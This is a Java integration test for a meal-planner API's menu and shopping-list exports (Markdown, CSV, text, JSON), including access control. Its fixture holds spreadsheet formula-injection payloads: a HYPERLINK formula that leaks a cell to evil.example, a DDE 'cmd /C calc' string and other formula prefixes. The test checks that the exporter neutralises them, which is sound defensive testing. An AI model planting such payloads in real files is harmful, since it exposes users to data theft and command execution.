package app.mealplanner.api.menu;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.startsWith;

import java.sql.PreparedStatement;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import jakarta.inject.Inject;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvSchema;

import app.mealplanner.api.support.Api;
import app.mealplanner.common.db.Database;
import app.mealplanner.common.job.MenuJobs;
import app.mealplanner.common.menu.MealType;
import app.mealplanner.common.menu.Menu;
import app.mealplanner.common.menu.Menus;
import app.mealplanner.common.menu.Nutrition;
import io.quarkus.narayana.jta.QuarkusTransaction;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.restassured.response.Response;

/** The printable menu and the shopping list as CSV and plain text, through the real api on PostgreSQL. */
@QuarkusTest
class MenuExportTest {

    /** Names a model might write; a spreadsheet must show each as text, never run it. */
    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    private static final String PLUS = "+1+cmd|' /C calc'!A0";
    private static final String MINUS = "-2+3";
    private static final String AT = "@SUM(1+1)";
    private static final String TAB = "\t=1+1";
    private static final String QUOTED = "Peppers \"hot\", red";
    private static final String LINK = "[Click me](http://evil.example) *now*";

    @Inject
    MenuJobs jobs;
    @Inject
    Database database;

    String alice;
    String bob;
    UUID menuId;

    @BeforeEach
    void storeAMenuWrittenByAModel() {
        alice = Api.newUserToken();
        bob = Api.newUserToken();
        UUID jobId = UUID.fromString(Api.as(alice).contentType(ContentType.JSON).body(Api.VALID_REQUEST)
                .post("/api/menus").then().statusCode(202).extract().path("jobId"));
        var job = jobs.start(jobId, 1).orElseThrow();
        Menu.Recipe breakfast = new Menu.Recipe(LINK, "thai", 10, 2,
                // the onion as the worker writes it now (a text), the rest as menus stored before texts existed
                List.of(new Menu.Ingredient("onion", 1.5, "piece", "1½ onions"), new Menu.Ingredient(HYPERLINK, 2, "tbsp")),
                List.of("Chop the onion.", "Stir in the " + HYPERLINK + "."), new Nutrition(420, 12, 50, 18),
                List.of("quick"));
        Menu.Recipe dinner = new Menu.Recipe("Red Lentil Dal", "indian", 35, 2,
                List.of(new Menu.Ingredient("red lentil", 150, "g"), new Menu.Ingredient("salt", 1, "tsp")),
                List.of("Simmer the lentils for 20 minutes.", "Season with salt."), new Nutrition(510, 24, 70, 12),
                List.of());
        List<Menu.Day> days = List.of(
                new Menu.Day(1, List.of(new Menu.Meal(MealType.BREAKFAST, breakfast),
                        new Menu.Meal(MealType.DINNER, dinner)), new Nutrition(930, 36, 120, 30)),
                new Menu.Day(2, List.of(new Menu.Meal(MealType.BREAKFAST, breakfast),
                        new Menu.Meal(MealType.DINNER, dinner)), new Nutrition(930, 36, 120, 30)));
        List<Menu.ShoppingItem> list = List.of(
                item("onion", 3, "piece", "produce", List.of(1, 2), false, "3 onions"),
                item("red lentil", 300, "g", "legumes", List.of(1, 2), false, "300 g red lentils"),
                item(HYPERLINK, 0.25, "cup", "other", List.of(1, 2), false, "¼ cup " + HYPERLINK),
                item(PLUS, 1, "piece", "other", List.of(2), false, "1 " + PLUS),
                item(MINUS, 1, "piece", "other", List.of(2), false, "1 " + MINUS),
                item(AT, 1, "piece", "other", List.of(2), false, "1 " + AT),
                item(TAB, 1, "piece", "other", List.of(2), false, "1 " + TAB),
                item(QUOTED, 2, "piece", "produce", List.of(1), false, "2 " + QUOTED),
                item("salt", 2, "tsp", "spices", List.of(1, 2), true, "2 tsp salt"));
        Menu.Plan plan = new Menu.Plan(Menu.SOURCE_LLM, "gpt-4o-mini", days, list,
                List.of("Day 2 repeats day 1's breakfast"));
        MenuJobs.MenuToStore menu = MenuJobs.MenuToStore.of(job.request(), plan, Menus.Usage.NONE);
        menuId = QuarkusTransaction.requiringNew().call(() -> jobs.succeed(jobId, job.attempt(), menu)).orElseThrow();
    }

    @Test
    void shouldExportTheWholeMenuAsPrintableMarkdown() {
        Response response = Api.as(alice).accept("text/markdown").get("/api/menus/" + menuId);

        response.then().statusCode(200).contentType(startsWith("text/markdown"));
        assertThat(response.header("Content-Disposition"))
                .matches("attachment; filename=\"menu-\\d{4}-\\d{2}-\\d{2}-" + menuId.toString().substring(0, 8)
                        + "\\.md\"");
        String md = response.asString();
        assertThat(md).startsWith("# ").contains("## Day 1", "## Day 2", "### Breakfast:", "### Dinner: Red Lentil Dal",
                "1. Simmer the lentils for 20 minutes.", "2. Season with salt.", "- 150 g red lentil", "- 1½ onions",
                "930 kcal", "## Shopping list", "- [ ] 3 onions (days 1, 2)", "- [ ] 300 g red lentils (days 1, 2)",
                "### Check the pantry", "- [ ] 2 tsp salt (days 1, 2)", "Day 2 repeats day 1's breakfast",
                "gpt-4o-mini");
        assertThat(md.indexOf("### Check the pantry")).isGreaterThan(md.indexOf("300 g red lentils"));
        // a model's text is shown as text: no live link, no emphasis
        assertThat(md).doesNotContain("[Click me](http").contains("\\[Click me\\]").contains("\\*now\\*");
    }

    @Test
    void shouldStillAnswerJsonWhenNoOtherTypeIsAskedFor() {
        Api.as(alice).get("/api/menus/" + menuId).then().statusCode(200).contentType(ContentType.JSON)
                .body("id", equalTo(menuId.toString())).body("shoppingList[0].days", equalTo(List.of(1, 2)))
                .body("shoppingList[8].pantry", equalTo(true));
        Api.as(alice).accept("*/*").get("/api/menus/" + menuId).then().statusCode(200).contentType(ContentType.JSON);
        Api.as(alice).accept("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
                .get("/api/menus/" + menuId).then().statusCode(200).contentType(ContentType.JSON);
    }

    @Test
    void shouldExportTheShoppingListAsCsvThatASpreadsheetCannotRun() throws Exception {
        Response response = Api.as(alice).accept("text/csv").get("/api/menus/" + menuId + "/shopping-list");

        response.then().statusCode(200).contentType(startsWith("text/csv"));
        assertThat(response.header("Content-Disposition")).matches(
                "attachment; filename=\"shopping-list-\\d{4}-\\d{2}-\\d{2}-[0-9a-f]{8}\\.csv\"");
        String csv = new String(response.asByteArray(), java.nio.charset.StandardCharsets.UTF_8);
        assertThat(csv).startsWith("name,quantity,unit,plus,category,pantry,days,text\r\n").endsWith("\r\n");
        assertThat(csv.replace("\r\n", "")).doesNotContain("\n");

        List<Map<String, String>> rows;
        try (MappingIterator<Map<String, String>> it = new CsvMapper().readerForMapOf(String.class)
                .with(CsvSchema.emptySchema().withHeader()).readValues(csv)) {
            rows = it.readAll();
        }
        assertThat(rows).hasSize(9);
        assertThat(rows.get(0)).containsEntry("name", "onion").containsEntry("quantity", "3")
                .containsEntry("unit", "piece").containsEntry("days", "1, 2").containsEntry("pantry", "false")
                .containsEntry("text", "3 onions");
        assertThat(rows.get(2)).containsEntry("quantity", "0.25").containsEntry("unit", "cup");
        assertThat(rows).extracting(row -> row.get("name")).containsExactly("onion", "red lentil", "'" + HYPERLINK,
                "'" + PLUS, "'" + MINUS, "'" + AT, "'" + TAB, QUOTED, "salt");
        assertThat(rows).allSatisfy(row -> row.values().forEach(cell -> assertThat(cell).doesNotStartWith("=")
                .doesNotStartWith("+").doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t")));
        assertThat(rows.get(8)).containsEntry("pantry", "true");
    }

    @Test
    void shouldExportTheShoppingListAsPlainTextAndJson() {
        Response text = Api.as(alice).accept("text/plain").get("/api/menus/" + menuId + "/shopping-list");
        text.then().statusCode(200).contentType(startsWith("text/plain"));
        assertThat(text.header("Content-Disposition")).endsWith(".txt\"");
        assertThat(text.asString()).contains("Produce", "- 3 onions (days 1, 2)", "Legumes",
                "- 300 g red lentils (days 1, 2)", "Check the pantry", "- 2 tsp salt (days 1, 2)");
        assertThat(text.asString().indexOf("Check the pantry")).isGreaterThan(text.asString().indexOf("lentils"));

        Api.as(alice).get("/api/menus/" + menuId + "/shopping-list").then().statusCode(200)
                .contentType(ContentType.JSON).body("menuId", equalTo(menuId.toString()))
                .body("items.size()", equalTo(9)).body("items[0].text", equalTo("3 onions"))
                .body("items[0].days", equalTo(List.of(1, 2)));
    }

    @Test
    void shouldHideAnotherUsersMenuInEveryFormat() {
        for (String type : List.of("text/markdown", "application/json")) {
            Api.as(bob).accept(type).get("/api/menus/" + menuId).then().statusCode(404)
                    .contentType("application/problem+json");
        }
        for (String type : List.of("text/csv", "text/plain", "application/json")) {
            Api.as(bob).accept(type).get("/api/menus/" + menuId + "/shopping-list").then().statusCode(404)
                    .contentType("application/problem+json");
        }
        Api.as(bob).accept("text/csv").get("/api/menus/" + UUID.randomUUID() + "/shopping-list").then()
                .statusCode(404).contentType("application/problem+json");
        io.restassured.RestAssured.given().accept("text/csv").get("/api/menus/" + menuId + "/shopping-list").then()
                .statusCode(401).contentType("application/problem+json");
    }

    @Test
    void shouldRefuseAFormatItCannotWriteWith406() {
        Api.as(alice).accept("application/xml").get("/api/menus/" + menuId + "/shopping-list").then()
                .statusCode(406).contentType("application/problem+json").body("status", equalTo(406));
        Api.as(alice).accept("text/csv").get("/api/menus/" + menuId).then()
                .statusCode(406).contentType("application/problem+json");
        Api.as(alice).accept("application/pdf").get("/api/menus/" + menuId).then()
                .statusCode(406).contentType("application/problem+json");
    }

    @Test
    void shouldExportAMenuStoredBeforeListsHadDaysAndPantry() {
        database.run(c -> {
            try (PreparedStatement ps = c.prepareStatement("update menu set body = jsonb_set(body, '{shoppingList}', "
                    + "'[{\"name\":\"onion\",\"quantity\":2.5,\"unit\":\"piece\",\"category\":\"produce\"}]') "
                    + "where id = ?")) {
                ps.setObject(1, menuId);
                return ps.executeUpdate();
            }
        });
        Api.as(alice).get("/api/menus/" + menuId).then().statusCode(200)
                .body("shoppingList[0].text", equalTo("2.5 piece onion"))
                .body("shoppingList[0].days", equalTo(List.of()));
        assertThat(Api.as(alice).accept("text/csv").get("/api/menus/" + menuId + "/shopping-list").then()
                .statusCode(200).extract().asString()).contains("onion,2.5,piece");
        assertThat(Api.as(alice).accept("text/markdown").get("/api/menus/" + menuId).then().statusCode(200)
                .extract().asString()).contains("- [ ] 2.5 piece onion\n");
    }

    private static Menu.ShoppingItem item(String name, double quantity, String unit, String category,
            List<Integer> days, boolean pantry, String text) {
        return new Menu.ShoppingItem(name, quantity, unit, category, List.of(), days, pantry, text);
    }
}
